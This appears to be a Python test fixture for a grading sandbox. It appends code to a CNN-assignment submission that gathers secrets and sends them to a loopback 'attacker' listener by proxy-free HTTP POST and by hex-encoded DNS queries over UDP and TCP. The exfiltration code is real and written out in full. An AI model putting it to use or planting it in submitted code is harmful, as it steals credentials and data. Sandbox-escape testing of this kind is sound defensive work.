"""Send the course's secrets out over HTTP and DNS, to the test's listener on 127.0.0.1 (the attacker's server).

All eight functions are honest. The zero_pad cell collects what leak-tcp collects and sends
it as an HTTP POST (urllib, to ``http://127.0.0.1:{{PORT}}/``, with no proxy: a proxy of the
environment would carry it off the machine), and as DNS queries whose names carry the data in hexadecimal
labels, over UDP and TCP to ``127.0.0.1:{{PORT}}`` (a DNS server of the attacker's; only
the loopback listener here, never the machine's resolver), each datagram or connection
starting with the marker. Exfiltration by HTTP or DNS needs the network as much as a raw
TCP connection does; tried because a sandbox that let a proxy or a resolver through
(a host's /etc/resolv.conf and its resolver) would let these out.
Without protection: the secrets on the listener, three times over.
"""
from ._loot import LOOT

EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
MUST_EARN = EXPECT
APPEND = {"zero_pad": LOOT + '''

import json as _json
import os as _os
import socket as _socket
import struct as _struct
import urllib.request as _request

_MARK = b"cnnattack_leak_http_dns"
_data = _json.dumps(_loot(), default=str).encode()
_outcomes = {}
for _name, _opener in [("http", _request.build_opener(_request.ProxyHandler({})))]:
    try:
        _opener.open(_request.Request("http://127.0.0.1:{{PORT}}/cnnattack_leak_http_dns", data=_MARK + b" " + _data[:60000],
                                      method="POST"), timeout=5)
        _outcomes[_name] = "sent"
    except Exception as _error:
        _outcomes[_name] = type(_error).__name__


def _dns_query(labels):
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\\0"
    return _struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + _struct.pack(">HH", 1, 1)


_queries = [_dns_query([_data[i:i + 30].hex().encode(), b"cnnattack", b"invalid"]) for i in range(0, 30 * 40, 30)]
try:
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as _udp:
        for _query in _queries:
            _udp.sendto(_MARK + _query, ("127.0.0.1", {{PORT}}))
    _outcomes["dns udp"] = "sent"
except OSError as _error:
    _outcomes["dns udp"] = type(_error).__name__
try:
    with _socket.create_connection(("127.0.0.1", {{PORT}}), timeout=5) as _tcp:
        _tcp.sendall(_MARK + b"".join(_struct.pack(">H", len(q)) + q for q in _queries))
    _outcomes["dns tcp"] = "sent"
except OSError as _error:
    _outcomes["dns tcp"] = type(_error).__name__
print("leak-http-dns:", _outcomes, "resolv.conf:", _os.path.exists("/etc/resolv.conf"))
'''}
